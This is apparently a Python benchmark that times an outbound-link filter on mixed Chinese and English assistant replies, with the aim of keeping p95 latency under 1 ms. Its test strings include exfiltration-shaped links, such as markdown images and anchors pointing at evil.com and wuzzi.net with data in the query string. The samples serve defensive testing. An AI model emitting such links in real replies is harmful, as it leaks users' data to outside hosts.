"""Outbound link filter: latency of `restrict_links` on 2,000-character replies (p50/p95/max, microseconds).

Replies mix Chinese and English prose, figures, file names, allowed links and the exfiltration shapes the
filter removes; the target is p95 < 1 ms.
"""

from __future__ import annotations

import statistics
import time

from copilot.links import restrict_links

PIECES = [
    "华东区 2026-10 销售额：¥4,487.1万，同比 +3.5%，e.g. X200 表现最好。",
    "Revenue in East China was ¥83.09M in Q3 2026 (report.docx, charts/x.png). ",
    "![chart](charts/east.png) ",
    "See [the playbook](https://docs.acme.com/playbook?id=3) for details. ",
    "![x](https://evil.com/?q=east-4487) ",
    "<a href=\"https://evil.com/c\">click</a> ",
    "详情见 evil.com/a?x=1。",
    "Contact bob@acme.com or www.evil.com/leak today. ",
    "[ref]: https://evil.com/x\n",
    "<https://wuzzi.net/l.png?d=1|summary> ",
    "Plain text without links, 12.5 元/件，v1.2/3，i.e. the usual. ",
]


def replies(n: int = 200, size: int = 2000) -> list[str]:
    out = []
    for i in range(n):
        text, k = "", i
        while len(text) < size:
            text += PIECES[k % len(PIECES)]
            k += 3
        out.append(text[:size])
    return out


def main() -> None:
    texts = replies()
    allowed = ["acme.com"]
    for text in texts[:20]:  # warm up
        restrict_links(text, allowed)
    times: list[float] = []
    removed = 0
    for _ in range(5):
        for text in texts:
            started = time.perf_counter()
            check = restrict_links(text, allowed)
            times.append((time.perf_counter() - started) * 1e6)
            removed += len(check.removed)
    times.sort()
    p95 = times[int(0.95 * len(times)) - 1]
    print(f"restrict_links on {len(times)} replies of 2,000 chars ({removed / len(times):.1f} URLs removed each):")
    print(f"  p50 {statistics.median(times):.0f} µs   p95 {p95:.0f} µs   max {times[-1]:.0f} µs   "
          f"(target p95 < 1000 µs: {'ok' if p95 < 1000 else 'MISSED'})")


if __name__ == "__main__":
    main()
